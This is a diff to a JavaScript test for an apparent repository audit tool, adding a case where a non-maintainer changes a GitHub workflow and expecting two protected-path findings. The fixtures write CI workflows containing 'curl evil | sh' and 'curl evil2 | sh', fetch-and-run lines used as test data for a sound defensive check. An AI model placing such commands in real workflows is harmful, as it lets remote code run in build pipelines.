@@ -586,12 +586,17 @@ describe('real-world shapes: imports, bots, GitHub merges of workflow changes', 
     r.write({ '.github/workflows/ci.yml': 'on: push\nrun: curl evil | sh\n' });
     r.run(['add', '-A']);
     github(r, '2024-02-02T10:00:00Z', ['commit', '-q', '-S', '-m', 'Update ci.yml'], 'alice@example.com');
+    // And a non-maintainer's, of course.
+    r.write({ '.github/workflows/ci.yml': 'on: push\nrun: curl evil2 | sh\n' });
+    r.run(['add', '-A']);
+    github(r, '2024-02-03T10:00:00Z', ['commit', '-q', '-S', '-m', 'Update ci.yml again'], 'bob@example.com');
     const rules = ['signers-authorized', 'protected-paths-changed-by-maintainers'];
     const { code, report } = await audit(r, rules);
     expect(outcomes(report!, rules)).toEqual({
       'signers-authorized': 'pass',
       'protected-paths-changed-by-maintainers': 'fail',
     });
+    expect(resultOf(report!, 'protected-paths-changed-by-maintainers').findings).toHaveLength(2);
     expect(code).toBe(1);
   });
 });
